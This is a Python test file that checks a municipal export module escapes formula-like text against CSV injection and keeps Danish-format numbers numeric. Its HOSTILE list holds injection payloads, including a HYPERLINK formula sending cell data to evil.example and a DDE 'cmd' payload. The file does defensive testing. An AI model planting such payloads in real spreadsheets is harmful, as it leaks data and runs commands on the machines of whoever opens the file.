"""The one rule every export keeps: text a spreadsheet would run as a formula is written as text; numbers stay
numbers (OWASP's CSV-injection rule)."""

import io

import openpyxl
import pytest
from openpyxl import Workbook

from municipalities import spreadsheets

HOSTILE = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik her")',
    "+1+2",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "-cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_like_text_gets_an_apostrophe_in_a_csv(text):
    assert spreadsheets.csv_text(text) == "'" + text


@pytest.mark.parametrize("number", ["-1,7", "−1.160", "-1.160,25", "+0,5", "-12", "12,3456", "-3,5 %", "1.234"])
def test_numbers_written_the_danish_way_stay_numbers(number):
    assert spreadsheets.csv_text(number) == number


@pytest.mark.parametrize("value", ["Tårnby", "", "1+1=2", None, 7, 1.5, "–"])
def test_other_cells_are_left_alone(value):
    assert spreadsheets.csv_text(value) == value


def test_the_csv_writer_makes_every_cell_safe():
    buffer = io.StringIO()
    writer = spreadsheets.csv_writer(buffer)
    writer.writerow(["=1+2", "-1,7", "Aarhus"])
    writer.writerows([["@x", 3]])
    assert buffer.getvalue() == "'=1+2;-1,7;Aarhus\r\n'@x;3\r\n"


STORED = [text.replace("\r", "\n") for text in HOSTILE]  # XML reads a carriage return back as a line feed


def _reloaded(book) -> list:
    buffer = io.BytesIO()
    book.save(buffer)
    return [c for sheet in openpyxl.load_workbook(buffer).worksheets for row in sheet.iter_rows() for c in row]


def test_a_workbook_keeps_formula_like_text_as_text_and_numbers_as_numbers():
    book = Workbook()
    book.active.append([*HOSTILE, -1.7, 12])
    assert book.active["A1"].data_type == "f"  # what openpyxl would write without the rule
    spreadsheets.text_only(book)
    cells = _reloaded(book)
    assert [c.value for c in cells] == [*STORED, -1.7, 12]
    assert {c.data_type for c in cells[: len(HOSTILE)]} == {"s"} and {c.data_type for c in cells[-2:]} == {"n"}


def test_a_write_only_sheet_gets_safe_rows():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Ark")
    sheet.append(spreadsheets.xlsx_row(sheet, [*HOSTILE, -1.7]))
    cells = _reloaded(book)
    assert [c.value for c in cells] == [*STORED, -1.7] and all(c.data_type != "f" for c in cells)
